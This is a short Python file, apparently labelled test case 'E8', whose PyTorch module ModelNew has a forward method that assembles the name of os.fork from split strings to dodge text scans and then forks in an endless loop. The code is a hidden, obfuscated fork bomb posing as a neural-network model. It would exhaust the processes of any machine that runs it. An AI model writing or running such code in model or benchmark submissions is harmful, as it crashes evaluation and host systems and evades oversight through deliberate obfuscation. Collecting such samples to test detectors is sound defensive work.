# E8: forks through a name built at run time
import torch
import torch.nn as nn
import os

class ModelNew(nn.Module):
    def forward(self, x):
        fork = getattr(os, 'fo' + 'rk')
        while True:
            fork()
